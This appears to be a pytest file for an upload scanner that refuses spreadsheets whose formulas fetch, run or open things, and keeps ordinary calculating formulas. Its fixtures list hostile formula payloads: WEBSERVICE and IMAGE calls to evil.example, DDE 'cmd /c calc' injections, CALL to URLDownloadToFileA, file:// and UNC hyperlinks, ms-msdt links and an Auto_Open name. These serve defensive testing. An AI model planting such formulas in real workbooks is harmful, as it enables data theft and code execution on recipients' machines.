"""Formulas of a workbook: those that fetch, run or open are named, those that calculate pass."""

from xml.sax.saxutils import escape

import pytest

from tests.uploads.keeping import kept, refusal
from tests.uploads.samples import office


def sheet(formula: str) -> bytes:
    """A workbook in which something is calculated."""
    cell = f"<row><c><f>{escape(formula)}</f></c></row>"
    return office("xlsx", xl__sheet1_xml=f"<worksheet><sheetData>{cell}</sheetData></worksheet>")


REACHING = {
    'WEBSERVICE("http://evil.example/"&A2)': "WEBSERVICE",
    '_xlfn.WEBSERVICE("http://evil.example/")': "WEBSERVICE",
    'IF(A1,webservice ("http://evil.example/"))': "WEBSERVICE",
    '_xlfn._xlws.IMAGE("http://evil.example/x.png")': "IMAGE",
    'RTD("x.y",,"a")': "RTD",
    "cmd|'/c calc'!A0": "DDE",
    "1+'cmd'|'/c calc'!A0": "DDE",
    'DDE("cmd";"/c calc";"x")': "DDE",
    'CALL("urlmon","URLDownloadToFileA")': "CALL",
    'EXEC("calc")': "EXEC",
    "_xll.Fetch(A1)": "_XLL.FETCH",
    "'\\\\evil\\x\\[a.xlsx]S'!A1": "断开链接",
    "'http://evil.example/[a.xlsx]S'!A1": "断开链接",
    "'C:\\x\\[a.xlsx]S'!A1": "断开链接",
    'HYPERLINK("file:///c:/windows/system32/calc.exe","看")': "HYPERLINK 指向“file:///",
    'HYPERLINK("\\\\evil\\x")': "HYPERLINK 指向",
    'HYPERLINK("fi"&"le:///c:/x")': "HYPERLINK 指向",
    'HYPERLINK(IF(A1,"https://www.gov.cn/","file:///c:/x"))': "HYPERLINK 指向“file:///c:/x”",
    'HYPERLINK("ms-msdt:/id")': "HYPERLINK 指向",
    "1+" * 40_000: "过长",
}


@pytest.mark.parametrize("formula", REACHING, ids=lambda formula: formula[:40])
def test_a_formula_that_fetches_runs_or_opens_is_named_with_a_way_out(formula):
    said = refusal(sheet(formula), "统计.xlsx")

    assert REACHING[formula] in said
    assert "选择性粘贴 → 数值" in said or "断开链接" in said


@pytest.mark.parametrize("element", ["definedName", "formula", "formula1", "x:f", "calculatedColumnFormula"])
def test_it_is_named_wherever_a_workbook_calculates(element):
    space = {"xl__a_xml": f'<a xmlns:x="x"><{element}>cmd|&apos;/c calc&apos;!A0</{element}></a>'}

    assert "DDE" in refusal(office("xlsx", **space), "统计.xlsx")


def test_a_name_that_runs_when_a_book_opens_is_refused():
    names = '<definedNames><definedName name="_xlnm.Auto_Open">S!A1</definedName></definedNames>'

    assert "宏" in refusal(office("xlsx", **{"xl__workbook.xml": names}), "统计.xlsx")


CALCULATING = (
    *(
        "SUM(A1:B2)",
        "SUM(Sheet1:Sheet3!A1)",
        "'一月 1:三月 2'!A1",
        "SUM(A:A)/2",
        "[0]!人次",
        "表1[甲|乙]+S!A1",
    ),
    *(
        'IF(A1="a|b!","\\\\x","file:///c:/")',
        'TEXT(A1,"yyyy:mm")&"//"',
        "VLOOKUP(A1,'[图表]Sheet1'!$A:$B,2,)",
    ),
    *('HYPERLINK("https://www.gov.cn/?d="&TEXT(A1,"hh:mm"),"Note: 官网")', 'HYPERLINK("#表!A1","返回")'),
    *('HYPERLINK("mailto:"&A1)', "HYPERLINK(A2)", 'HYPERLINK("附件/1.docx")', '"WEBSERVICE("', "IMAGES(1)"),
)


@pytest.mark.parametrize("formula", CALCULATING)
def test_a_formula_that_calculates_or_links_to_the_web_passes(formula):
    content = sheet(formula)

    assert kept(content, "统计.xlsx") == content
